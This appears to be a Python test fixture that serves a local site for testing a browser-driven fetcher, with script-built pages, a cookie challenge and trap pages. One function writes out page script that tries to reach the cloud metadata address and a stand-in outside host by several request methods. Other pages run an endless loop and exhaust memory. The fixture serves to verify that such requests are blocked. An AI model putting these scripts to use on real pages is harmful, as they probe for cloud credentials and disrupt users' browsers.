"""A local site that needs a browser: pages built by scripts, a cookie challenge, traps.

Every request is recorded (path, Host header, cookies), so a test can tell what a plain client
and the browser asked for, and a second server (``Recorder``) stands in for hosts the browser
must never reach (the cloud metadata address, another site), mapped to it by Chromium's
``--host-resolver-rules``.
"""

from __future__ import annotations

import hashlib
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler

from tests.localserver import serve

PARAGRAPHS = (
    "The United States and Mexico held the High-Level Economic Dialogue in Mexico City today.",
    "Both governments committed to expand semiconductor supply chains in the border region.",
    "The delegations agreed to meet again next year to review progress on every pillar.",
)


def script_built(title: str, paragraphs: tuple[str, ...] = PARAGRAPHS, delay_ms: int = 300) -> str:
    """An empty article that a script fills in after load (a single-page-app press release)."""
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        f"<html><head><title>{title}</title></head><body><main id='app'></main>"
        "<script>window.addEventListener('load', () => setTimeout(() => {"
        f"document.getElementById('app').innerHTML = `<article><h1>{title}</h1>"
        f"<div class='entry-content'>{body}</div></article>`;"
        f"}}, {delay_ms}));</script></body></html>"
    )


def plain_article(title: str, paragraphs: tuple[str, ...] = PARAGRAPHS) -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        f"<html><head><title>{title}</title></head><body><main><article><h1>{title}</h1>"
        f"<div class='entry-content'>{body}</div></article></main></body></html>"
    )


CHALLENGE = (
    "<html><head><title>Just a moment...</title></head><body>"
    "<p>Checking your browser before accessing the site.</p>"
    "<script>setTimeout(() => { document.cookie = 'clearance=granted; path=/';"
    " location.reload(); }, 200);</script></body></html>"
)

NEVER_SETTLES = (
    "<html><head><title>Live</title></head><body><main><article><h1>Live</h1>"
    "<div class='entry-content' id='text'></div></article></main>"
    "<script>let n = 0; setInterval(() => { n += 1; document.getElementById('text').innerHTML ="
    " '<p>The High-Level Economic Dialogue ticker has counted ' + n + ' ticks so far, and it"
    " keeps counting for as long as anyone watches it.</p>'; }, 100);</script>"
    "</body></html>"
)

BUSY = (
    "<html><head><title>Busy</title></head><body><main id='app'></main>"
    "<script>setTimeout(() => { while (true) {} }, 50);</script></body></html>"
)

HEAVY = (
    "<html><head><title>Heavy</title></head><body><main id='app'></main>"
    "<script>const hoard = []; function grow() { for (let i = 0; i < 50; i++)"
    " { hoard.push(new Array(250000).fill(Math.random())); } setTimeout(grow, 20); }"
    " grow();</script></body></html>"
)


def exfiltrating(title: str, metadata: str, other: str) -> str:
    """An article whose scripts try the metadata address and another host, several ways."""
    return script_built(title).replace(
        "</body>",
        "<script>"
        f"fetch('{metadata}/latest/meta-data/').catch(() => {{}});"
        f"fetch('{other}/collect?via=fetch').catch(() => {{}});"
        "fetch('/bounce').catch(() => {});"  # a same-site request redirected to metadata
        f"new Image().src = '{other}/pixel.gif';"
        f"try {{ new WebSocket('{other.replace('http', 'ws')}/socket'); }} catch (e) {{}}"
        f"navigator.sendBeacon && navigator.sendBeacon('{other}/beacon', 'x');"
        f"window.open('{other}/popup');"
        f"try {{ new SharedWorker('{other}/shared.js'); }} catch (e) {{}}"
        "</script></body>",
    )


@dataclass
class Hit:
    path: str
    host: str
    cookie: str
    agent: str = ""
    at: float = 0.0  # time.monotonic() on arrival

    @property
    def by_browser(self) -> bool:
        return "Chrome/" in self.agent


@dataclass
class BrowserSite:
    """Pages by path; ``/challenged/...`` paths answer the challenge until the cookie is set."""

    pages: dict[str, str] = field(default_factory=dict)
    redirects: dict[str, str] = field(default_factory=dict)
    hits: list[Hit] = field(default_factory=list)
    etags: bool = True  # False: every page answers 200, as a challenged site's pages do

    def answer(
        self, path: str, cookie: str, if_none_match: str = ""
    ) -> tuple[int, dict[str, str], bytes]:
        if path in self.redirects:
            return 302, {"Location": self.redirects[path]}, b""
        if path.startswith("/challenged/") and "clearance=granted" not in cookie:
            return 200, {"Content-Type": "text/html; charset=utf-8"}, CHALLENGE.encode()
        page = self.pages.get(path)
        if page is None:
            return 404, {"Content-Type": "text/html"}, b"<html><body>not found</body></html>"
        body = page.encode()
        etag = '"' + hashlib.sha256(body).hexdigest()[:16] + '"'
        if not self.etags:
            return 200, {"Content-Type": "text/html; charset=utf-8"}, body
        if if_none_match == etag:
            return 304, {"ETag": etag}, b""
        return 200, {"Content-Type": "text/html; charset=utf-8", "ETag": etag}, body

    def count(self, path: str) -> int:
        return sum(1 for hit in self.hits if hit.path == path)

    @contextmanager
    def serve(self, host: str = "127.0.0.1") -> Iterator[str]:
        with serve(_handler(self), host) as base:
            yield base


@dataclass
class Recorder:
    """A host that must never be reached: it records whatever arrives."""

    hits: list[Hit] = field(default_factory=list)

    @contextmanager
    def serve(self, host: str = "127.0.0.1") -> Iterator[str]:
        with serve(_handler(self), host) as base:
            yield base

    def answer(
        self, path: str, cookie: str, if_none_match: str = ""
    ) -> tuple[int, dict[str, str], bytes]:
        return 200, {"Content-Type": "text/plain"}, b"secret"


def _handler(site: BrowserSite | Recorder) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            cookie = self.headers.get("Cookie", "")
            agent = self.headers.get("User-Agent", "")
            site.hits.append(
                Hit(self.path, self.headers.get("Host", ""), cookie, agent, time.monotonic())
            )
            status, headers, body = site.answer(
                self.path, cookie, self.headers.get("If-None-Match", "")
            )
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler
